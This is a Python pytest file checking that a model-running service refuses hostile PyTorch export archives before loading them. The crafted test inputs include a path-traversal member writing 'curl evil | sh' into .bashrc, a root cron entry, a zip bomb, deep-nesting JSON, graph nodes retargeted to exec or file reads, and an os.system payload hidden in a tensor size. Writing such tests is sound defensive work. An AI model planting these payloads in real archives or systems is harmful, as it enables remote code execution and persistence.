"""T39: hostile ``.pt2`` archives are refused with ``E_UNSAFE_MODEL`` before anything loads them, and the
runner then completes the next valid job.

Each case rewrites the exported CNN (or exports a real refused model) and hands it to the runner as the
``model`` input. ``torch.export.load`` is replaced by a function that fails the test: the refusal must come
from ``offchain.compute.archive``, in the parent, before a child process exists (no ``child.log``)."""

from __future__ import annotations

import json
import pickle
from collections.abc import Callable
from pathlib import Path

import pytest
import torch

from offchain.compute import archive
from offchain.compute.archive import ArchiveLimits, validate_archive
from offchain.compute.errors import InputInvalid, UnsafeModel
from offchain.compute.inputformats import ARCHIVE_TENSOR
from offchain.compute.jobdir import LOG_FILE, STATUS_FILE
from offchain.compute.models.reference import export_spec
from offchain.compute.workloads import Export

from .export_archives import (
    INPUT_CID,
    MODEL_CID,
    custom_op_archive,
    edit_json,
    higher_order_archive,
    reference,
    rewrite,
)


def _root(members: dict[str, bytes]) -> str:
    return next(iter(members)).split("/", 1)[0]


def _pickled_weight(members: dict[str, bytes]) -> None:
    def change(document: dict) -> None:
        next(iter(document["config"].values()))["use_pickle"] = True

    edit_json(members, "model_weights_config.json", change)


def _pickle_member(members: dict[str, bytes]) -> None:
    members[f"{_root(members)}/data/weights/model.pt"] = pickle.dumps({"weight": [1.0, 2.0]})


def _climbing_member(members: dict[str, bytes]) -> None:
    members[f"{_root(members)}/../../.bashrc"] = b"curl evil | sh\n"


def _absolute_member(members: dict[str, bytes]) -> None:
    members["/etc/cron.d/evil"] = b"* * * * * root sh\n"


def _zip_bomb(members: dict[str, bytes]) -> None:
    members[f"{_root(members)}/data/sample_inputs/model.pt"] = bytes(16 << 20)


def _deep_graph(members: dict[str, bytes]) -> None:
    members[f"{_root(members)}/models/model.json"] = b"[" * 10_000 + b"]" * 10_000


def _retarget(target: str) -> Callable[[dict[str, bytes]], None]:
    def edit(members: dict[str, bytes]) -> None:
        def change(document: dict) -> None:
            document["graph_module"]["graph"]["nodes"][0]["target"] = target

        edit_json(members, "models/model.json", change)

    return edit


def _short_weight(members: dict[str, bytes]) -> None:
    name = f"{_root(members)}/data/weights/weight_0"
    members[name] = members[name][:-4]


def _dynamic_shapes(members: dict[str, bytes]) -> None:
    def change(document: dict) -> None:
        document["range_constraints"] = {"s0": {"min_val": 2, "max_val": 8}}

    edit_json(members, "models/model.json", change)


def _symbolic_size(members: dict[str, bytes]) -> None:
    def change(document: dict) -> None:
        values = document["graph_module"]["graph"]["tensor_values"]
        meta = next(iter(values.values()))
        meta["sizes"][0] = {
            "as_expr": {"expr_str": "__import__('os').system('touch /tmp/pwned')", "hint": None}
        }

    edit_json(members, "models/model.json", change)


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "pickled weight": (lambda: rewrite(reference("cnn").archive, _pickled_weight), "pickle (use_pickle)"),
    "pickle member": (lambda: rewrite(reference("cnn").archive, _pickle_member), "a pickle, which is never"),
    "../ member": (lambda: rewrite(reference("cnn").archive, _climbing_member), "climbs out"),
    "absolute member": (lambda: rewrite(reference("cnn").archive, _absolute_member), "absolute path"),
    "zip bomb": (
        lambda: rewrite(
            reference("cnn").archive, _zip_bomb, deflate=frozenset({"archive/data/sample_inputs/model.pt"})
        ),
        "zip bomb",
    ),
    "10,000-deep graph JSON": (lambda: rewrite(reference("cnn").archive, _deep_graph), "nests 10,000 levels"),
    "higher-order op": (higher_order_archive, "torch.ops.higher_order.cond"),
    "custom op": (custom_op_archive, "torch.ops.tessera_test.double"),
    "file-reading ATen op": (
        lambda: rewrite(reference("cnn").archive, _retarget("torch.ops.aten.from_file.default")),
        "torch.ops.aten.from_file.default is not in the allow-list",
    ),
    "Python callable": (
        lambda: rewrite(reference("cnn").archive, _retarget("builtins.exec")),
        "'builtins.exec'",
    ),
    "wrong weight size": (lambda: rewrite(reference("cnn").archive, _short_weight), "bytes but the weights"),
    "dynamic shapes": (lambda: rewrite(reference("cnn").archive, _dynamic_shapes), "dynamic shapes"),
    "sympy expression in a tensor size": (
        lambda: rewrite(reference("cnn").archive, _symbolic_size),
        "symbolic value (as_expr)",
    ),
}


@pytest.fixture
def no_load(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any call of torch.export.load in this process fails the test."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("torch.export.load was called on a hostile archive")

    monkeypatch.setattr(torch.export, "load", refuse)


def _spec() -> object:
    return export_spec(model_cid=MODEL_CID, input_cid=INPUT_CID)


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_archive_is_refused_before_any_child_or_load(case, make_runner, tmp_path: Path, no_load):
    build, reason = HOSTILE[case]
    runner = make_runner()
    job_dir = tmp_path / "job"

    with pytest.raises(UnsafeModel) as refused:
        runner.run(_spec(), {"model": build(), "input": reference("cnn").inputs}, job_dir)

    assert refused.value.code == "E_UNSAFE_MODEL"
    assert reason in refused.value.message
    assert not (job_dir / LOG_FILE).exists() and not (job_dir / STATUS_FILE).exists()  # no child ran


def test_oversized_archive_is_refused(make_runner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, no_load):
    monkeypatch.setattr(archive, "DEFAULT_LIMITS", ArchiveLimits(max_archive_bytes=4096))
    runner = make_runner()

    with pytest.raises(UnsafeModel, match="the limit is 4,096"):
        runner.run(
            _spec(), {"model": reference("cnn").archive, "input": reference("cnn").inputs}, tmp_path / "job"
        )


@pytest.mark.parametrize("case", ["pickled weight", "higher-order op", "10,000-deep graph JSON"])
def test_the_workload_checks_the_archive_again_before_torch_loads_it(case, no_load):
    build, reason = HOSTILE[case]
    model = {ARCHIVE_TENSOR: torch.frombuffer(bytearray(build()), dtype=torch.uint8)}

    with pytest.raises(UnsafeModel, match="E_UNSAFE_MODEL") as refused:
        Export(name="export").run({"model": model, "input": {}}, torch.device("cpu"))

    assert reason in refused.value.message


def test_a_valid_archive_does_reach_the_loader(no_load):
    """The guard above can fail: a valid archive passes the checks and gets as far as torch.export.load."""
    model = {ARCHIVE_TENSOR: torch.frombuffer(bytearray(reference("cnn").archive), dtype=torch.uint8)}

    with pytest.raises(InputInvalid, match="torch.export.load was called"):
        Export(name="export").run({"model": model, "input": {}}, torch.device("cpu"))


def test_the_next_valid_job_completes_after_every_refusal(make_runner, tmp_path: Path):
    runner = make_runner()
    cnn = reference("cnn")
    for index, case in enumerate(sorted(HOSTILE)):
        with pytest.raises(UnsafeModel):
            runner.run(
                _spec(), {"model": HOSTILE[case][0](), "input": cnn.inputs}, tmp_path / f"hostile-{index}"
            )

    result = runner.run(_spec(), {"model": cnn.archive, "input": cnn.inputs}, tmp_path / "valid")

    assert result.size > 0 and (tmp_path / "valid" / STATUS_FILE).exists()


def test_every_reference_archive_passes_the_checks():
    for name in ("gpt", "cnn", "lora"):
        checked = validate_archive(reference(name).archive)
        assert checked.node_count > 0 and checked.input_names
        assert json.loads(checked.members["models/model.json"])  # the graph is plain JSON
